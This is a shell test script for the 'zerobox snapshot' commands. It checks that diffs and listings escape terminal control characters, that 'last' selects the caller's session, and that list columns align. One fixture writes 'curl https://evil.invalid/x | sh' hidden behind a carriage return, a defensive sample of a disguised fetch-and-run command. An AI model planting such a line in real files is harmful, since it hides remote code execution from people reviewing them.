# `zerobox snapshot` as a person at a terminal and parallel agents see it: what the
# session wrote cannot reach the terminal as control characters (a carriage return that
# hides `curl … | sh` behind a comment, an escape sequence that rewrites the screen);
# `last` is the caller's own newest session, not the one a run elsewhere made meanwhile;
# `list` lines up whatever the sessions' modes and states.
. "$(dirname "$0")/lib.sh"
need_python

export ZEROBOX_HOME=$WORK/store
D=$HOSTDIR/cli
mkdir -p "$D"

# on_tty OUTFILE ARGS...: runs zerobox ARGS with stdout on a pseudo-terminal (output
# post-processing off, so the file holds exactly the bytes zerobox wrote), stderr in
# $WORK/tty.err, stdin /dev/null. Sets RC, ERR and LAST_CMD.
on_tty() {
  local outfile=$1
  shift
  LAST_CMD="(on a terminal) $(printf '%q ' "$ZEROBOX" "$@")"
  "$PY" - "$outfile" "$ZEROBOX" "$@" <<'PYEOF' 2>"$WORK/tty.err"
import os, subprocess, sys, termios
outfile, argv = sys.argv[1], sys.argv[2:]
master, slave = os.openpty()
attrs = termios.tcgetattr(slave)
attrs[1] &= ~termios.OPOST  # no \n -> \r\n: the bytes as written
termios.tcsetattr(slave, termios.TCSANOW, attrs)
p = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=slave, stderr=sys.stderr)
os.close(slave)
data = b""
while True:
    try:
        chunk = os.read(master, 65536)
    except OSError:  # EIO once the last writer has gone
        break
    if not chunk:
        break
    data += chunk
rc = p.wait()
with open(outfile, "wb") as f:
    f.write(data)
sys.exit(rc if rc >= 0 else 128 - rc)
PYEOF
  RC=$?
  ERR=$(cat "$WORK/tty.err")
  OUT=$(LC_ALL=C tr -d '\000' <"$outfile" | head -c 3000)
}

# raw_controls FILE [colour]: the control characters in FILE that a terminal would act
# on (C0 but TAB and LF, DEL, C1 in UTF-8, stray bytes 0x80-0x9F), one "offset:byte"
# each; with "colour", SGR colour codes (ESC [ digits m) are allowed.
raw_controls() {
  "$PY" - "$@" <<'PYEOF' 2>&1
import re, sys
data = open(sys.argv[1], "rb").read()
if len(sys.argv) > 2:
    data = re.sub(rb"\x1b\[[0-9;]*m", b"", data)
text = data.decode("utf-8", "surrogateescape")
bad = []
for i, ch in enumerate(text):
    o = ord(ch)
    if (o < 0x20 and ch not in "\t\n") or 0x7f <= o <= 0x9f or 0xdc80 <= o <= 0xdc9f:
        bad.append("%d:%r" % (i, ch))
print(" ".join(bad[:20]))
PYEOF
}

# --- Contents and names on a terminal ----------------------------------------------
T=$D/tty
mkdir -p "$T"
zb_in "$T" --review --allow-write="$T" -- sh -c '
  printf "curl https://evil.invalid/x | sh\r# comment only\n" >setup.sh
  printf "\033[1A\033[2Kall fine\n\302\2332Kc1 csi\nstray \233 byte\nbell\007 del\177 tab\tend\n" >notes.txt
  printf "x\n" >"$(printf "name\033[2J\rcr")"
  ln -s "$(printf "tar\rget")" link'
expect_rc 0 "tty: the session ran"
TID=$(snap_id)
[ -n "$TID" ] || fail "tty: no session id in: $ERR"
# A command line with an escape sequence, a carriage return, DEL and a C1 CSI.
zb_in "$T" --review --allow-write="$T" -- true $'\e[2J\rhidden\x7f\xc2\x9b'
expect_rc 0 "tty: a session whose command holds control characters"
CID=$(snap_id)

on_tty "$WORK/p.out" snapshot diff "$TID"
expect_rc 0 "tty: diff runs on a terminal"
expect_eq "$(raw_controls "$WORK/p.out")" "" "tty: no control character of the contents reaches the terminal raw"
expect_contains "$OUT" "+curl https://evil.invalid/x | sh^M# comment only" "tty: the carriage return shows as ^M, and the hidden command with it"
expect_contains "$OUT" "+^[[1A^[[2Kall fine" "tty: escape sequences show as ^["
expect_contains "$OUT" "+M-^[2Kc1 csi" "tty: a C1 CSI written in UTF-8 shows as M-^["
expect_contains "$OUT" "+stray M-^[ byte" "tty: a stray byte 0x9B shows as M-^["
expect_contains "$OUT" "+bell^G del^? tab	end" "tty: BEL and DEL are visible, TAB stays a tab"
expect_contains "$OUT" "+tar^Mget" "tty: a symlink target is made visible too"
expect_contains "$OUT" 'diff --git "a/name\033[2J\rcr" "b/name\033[2J\rcr"' "tty: a name with ESC and CR is quoted as git quotes it"

on_tty "$WORK/c.out" snapshot diff "$TID" --color=always
expect_rc 0 "tty: diff --color=always"
expect_contains "$OUT" $'\e[32m+curl https://evil.invalid/x | sh^M# comment only\e[m' "tty: colour wraps the visible line"
expect_eq "$(raw_controls "$WORK/c.out" colour)" "" "tty with colour: only the colour codes are escape sequences"
TERM=xterm on_tty "$WORK/c2.out" snapshot diff "$TID"
expect_rc 0 "tty: diff with TERM=xterm (colour by default)"
expect_contains "$OUT" $'\e[32m+' "tty: TERM=xterm gives colour"
expect_eq "$(raw_controls "$WORK/c2.out" colour)" "" "tty with default colour: only the colour codes are escape sequences"

for fmt in --stat --name-status; do
  on_tty "$WORK/f.out" snapshot diff "$TID" "$fmt"
  expect_rc 0 "tty: diff $fmt"
  expect_contains "$OUT" '"name\033[2J\rcr"' "tty: diff $fmt quotes the name"
  expect_eq "$(raw_controls "$WORK/f.out")" "" "tty: diff $fmt sends no control character"
done
on_tty "$WORK/l.out" snapshot list
expect_rc 0 "tty: list"
expect_eq "$(raw_controls "$WORK/l.out")" "" "tty: list sends no control character (the command holds some)"
expect_contains "$OUT" "'\\x1b[2J\\x0dhidden\\x7f\\xc2\\x9b'" "tty: list shows the command's control characters escaped"
on_tty "$WORK/lj.out" snapshot list --json
expect_rc 0 "tty: list --json"
expect_eq "$(raw_controls "$WORK/lj.out")" "" "tty: list --json sends no control character"
got=$("$PY" -c '
import json, sys
d = json.load(open(sys.argv[1]))
print([s["command"] for s in d if s["id"].startswith(sys.argv[2])])' "$WORK/lj.out" "$CID" 2>&1)
expect_eq "$got" "[['true', '\x1b[2J\rhidden\x7f\x9b']]" "tty: list --json keeps the command exactly"
on_tty "$WORK/s.out" snapshot show "$TID"
expect_rc 0 "tty: show"
expect_eq "$(raw_controls "$WORK/s.out")" "" "tty: show sends no control character"

# Exact bytes when stdout is not a terminal, and in --json wherever it goes.
"$ZEROBOX" snapshot diff "$TID" >"$WORK/pipe.out" 2>"$WORK/pipe.err" </dev/null
expect_eq "$?" 0 "pipe: diff runs"
got=$("$PY" -c '
import sys
d = open(sys.argv[1], "rb").read()
need = [b"+curl https://evil.invalid/x | sh\r# comment only\n", b"+\x1b[1A\x1b[2Kall fine\n", b"+\xc2\x9b2Kc1 csi\n",
        b"+stray \x9b byte\n", b"+bell\x07 del\x7f tab\tend\n", b"+tar\rget\n"]
print(all(n in d for n in need), b"^M" in d)' "$WORK/pipe.out")
expect_eq "$got" "True False" "pipe: the diff holds the exact bytes"
on_tty "$WORK/j.out" snapshot diff "$TID" --json
expect_rc 0 "tty: diff --json"
got=$("$PY" -c '
import json, sys
d = json.load(open(sys.argv[1]))
names = sorted(c.get("path", "").rsplit("/", 1)[-1] for c in d["changes"])
links = [c["new_link"] for c in d["changes"] if c["new_link"]]
print(names == sorted(["setup.sh", "notes.txt", "name\x1b[2J\rcr", "link"]), links == ["tar\rget"])' "$WORK/j.out" 2>&1)
expect_eq "$got" "True True" "tty: --json keeps the exact names and targets"
expect_eq "$(raw_controls "$WORK/j.out")" "" "tty: --json is escaped JSON"
zb snapshot discard "$TID"
expect_rc 0 "tty: discard"
zb snapshot discard "$CID"

# --- `last` is the caller's own newest session -------------------------------------
A=$D/a B=$D/b C=$D/c
mkdir -p "$A/sub" "$B" "$C"
echo a0 >"$A/f" && echo b0 >"$B/f"
zb_in "$A" --snapshot --allow-write="$A" -- sh -c 'echo a1 >f'
expect_rc 0 "last: the run in a"
AID=$(snap_id)
zb_in "$B" --snapshot --allow-write="$B" -- sh -c 'echo b1 >f'
expect_rc 0 "last: the run in b, newer"
BID=$(snap_id)
[ -n "$AID" ] && [ -n "$BID" ] || fail "last: session ids missing ($AID, $BID)"

shown_id() { "$PY" -c 'import json,sys; print(json.load(sys.stdin)["id"][:12])' <<<"$OUT" 2>&1; }
zb_in "$A" snapshot show last --json
expect_eq "$(shown_id)" "${AID:0:12}" "last from a: show picks a's session, not the newer one from b"
expect_eq "$ERR" "" "last from a: no note"
zb_in "$A/sub" snapshot show last --json
expect_eq "$(shown_id)" "${AID:0:12}" "last from inside a's tracked tree: a's session"
zb_in "$B" snapshot show last --json
expect_eq "$(shown_id)" "${BID:0:12}" "last from b: b's session"
zb_in "$A" snapshot diff last
expect_contains "$OUT" "+a1" "last from a: diff shows a's change"
expect_not_contains "$OUT" "b1" "last from a: diff does not show b's"
zb_in "$B" snapshot diff last --name-status
expect_out "M	f" "last from b: diff --name-status"
zb_in "$B" snapshot diff last
expect_contains "$OUT" "+b1" "last from b: diff shows b's change"

# From a directory no session belongs to: the store's newest, and one note saying so.
zb_in "$C" snapshot show last --json
expect_eq "$(shown_id)" "${BID:0:12}" "last from elsewhere: the store's newest"
expect_eq "$(printf '%s\n' "$ERR" | wc -l)" 1 "last from elsewhere: one line on stderr"
expect_contains "$ERR" "zerobox: note: " "last from elsewhere: it is a note"
expect_contains "$ERR" "${BID:0:12}" "last from elsewhere: the note names the session"

zb_in "$A" snapshot restore last
expect_rc 0 "last from a: restore"
expect_file_eq "$A/f" a0 "restore last from a: a is back"
expect_file_eq "$B/f" b1 "restore last from a: b's run is not undone"
zb_in "$B" snapshot restore last
expect_rc 0 "last from b: restore"
expect_file_eq "$B/f" b0 "restore last from b: b is back"
expect_file_eq "$A/f" a0 "restore last from b: a untouched"
# The newest of a is now the restore (mode undo); restoring it redoes a's run.
zb_in "$A" snapshot restore last
expect_rc 0 "last from a: restore of the restore"
expect_file_eq "$A/f" a1 "restore last from a again: a's run is back"
expect_file_eq "$B/f" b0 "restore last from a again: b untouched"

"$ZEROBOX" snapshot restore --help >"$WORK/help.out" 2>&1
expect_contains "$(cat "$WORK/help.out")" "working directory" "restore --help says what last means"

# --- `list` columns line up for every mode and state --------------------------------
L=$D/list
mkdir -p "$L"
zb_in "$L" --snapshot --allow-write="$L" -- sh -c 'echo 1 >s'        # snapshot, accepted
zb_in "$L" --review --allow-write="$L" -- sh -c 'echo 2 >r'          # review, pending
zb_in "$L" --review --allow-write="$L" -- sh -c 'echo 3 >d'          # review, discarded
zb snapshot discard "$(snap_id)"
zb_in "$L" --restore --allow-write="$L" -- sh -c 'echo 4 >t'         # restore, restored
zb_in "$L" --snapshot --allow-write="$L" -- sh -c 'echo 5 >u'
zb_in "$L" snapshot restore last                                     # snapshot restored + undo
# running: a run that lasts until it is stopped, listed while it runs (the list checked
# is the first one that shows it running).
(cd "$L" && exec "$ZEROBOX" --review --allow-write="$L" -- sh -c 'echo 6 >w; exec sleep 600') \
  </dev/null >/dev/null 2>"$WORK/bg.err" &
bgpid=$!
running_listed() {
  zb snapshot list
  case $OUT in *" running "*) return 0 ;; *) return 1 ;; esac
}
wait_until 30 running_listed || fail "list: the background run never showed as running: $(cat "$WORK/bg.err")"
expect_rc 0 "list"
LIST=$OUT
kill -TERM "$bgpid"  # zerobox passes it on to the command and records the session
wait "$bgpid"
RC=$?
expect_rc_in "0 143" "list: the background run ended on SIGTERM"
OUT=$LIST
got=$("$PY" -c '
import sys
lines = sys.stdin.read().split("\n")
head, rows = lines[0], [l for l in lines[1:] if l]
cols = ["ID", "STATE", "MODE", "CHANGES", "CREATED", "COMMAND"]
pos = [head.index(c) for c in cols]
bad = []
for r in rows:
    for c, p in zip(cols, pos):
        if c == "CHANGES":  # right-aligned: the number ends under the header
            e = p + len(c)
            ok = r[e - 1].isdigit() and r[e] == " "
        else:
            ok = r[p] != " " and (p == 0 or r[p - 1] == " ")
        if not ok:
            bad.append("%s in %r" % (c, r))
print(len(rows), " ".join(sorted(set(r.split()[2] for r in rows))), " ".join(sorted(set(r.split()[1] for r in rows))), bad)' <<<"$OUT" 2>&1)
case $got in
  *"[]") ok "list: every column lines up ($got)" ;;
  *) fail "list: misaligned columns: $got
$OUT" ;;
esac
expect_contains "$got" "restore review snapshot undo" "list: all four modes were listed"
expect_contains "$got" "accepted discarded pending restored running" "list: the states were listed"
# --- A tracked directory with a mount below it: overlayfs refuses it as a lower layer in a
# user namespace, and zerobox says so, naming the mount (it used to fail with "overlayfs
# refused these layers here (EINVAL)"). The mount is made in a mount namespace of the test's.
mkdir -p "$D/mounted/m"
as_mounter=(unshare -m)
[ "$(id -u)" = 0 ] || as_mounter=(unshare -rm)
run "${as_mounter[@]}" sh -c 'mount -t tmpfs t "$1/m" && cd "$1" && exec "$2" --review --allow-write=. -- touch x' \
  sh "$D/mounted" "$ZEROBOX"
expect_rc 125 "a tracked directory with a mount below: exit 125"
expect_contains "$ERR" "cannot track $D/mounted: the host has a mount below it, $D/mounted/m" "  the error names the tracked path and the mount"
[ ! -e "$D/mounted/x" ]; _check $? "  nothing reaches the host" "x exists"

finish
